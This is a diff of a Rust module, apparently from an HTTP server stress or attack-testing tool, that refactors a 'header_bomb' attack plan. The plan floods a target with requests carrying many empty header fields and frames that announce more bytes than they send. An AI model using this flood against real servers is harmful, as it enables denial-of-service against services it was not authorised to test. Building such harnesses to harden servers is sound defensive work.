@@ -3,7 +3,7 @@
 use crate::attack::{Plan, Victim};
 use crate::http::{self, Method};
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -15,25 +15,21 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn header_bomb() -> Crowd {
-    Crowd::new(4, |connection, progress, _| {
-        for _ in 0..crowd::permitted(connection, progress, BURST) {
-            let id = http::request_stream(progress.streams);
-            progress.streams += 1;
+    Crowd::of_clients(4, |connection, progress, _| {
+        for id in progress.requests(connection, BURST) {
             let mut section = http::section(Method::Get, "/");
             for _ in 0..FIELDS {
                 http::put_field(&mut section, "a", b"");
             }
             // Every second frame announces more bytes than it sends.
-            let len = section.len() as u64 + (progress.streams % 2) * (1 << 20);
+            let len = section.len() as u64 + ((id.index() + 1) % 2) * (1 << 20);
             let mut bytes = http::header(http::HEADERS, len);
             bytes.extend(section);
-            for (index, chunk) in bytes.chunks(1000).enumerate() {
-                let offset = index as u64 * 1000;
-                connection.push_bytes(http::stream(id, offset, chunk, false));
+            for frame in http::stream_in_chunks(id, &bytes, false) {
+                connection.push_bytes(frame);
             }
         }
     })
-    .with_begin(crowd::preface)
 }
 
 /// Requests of one connection in one turn.
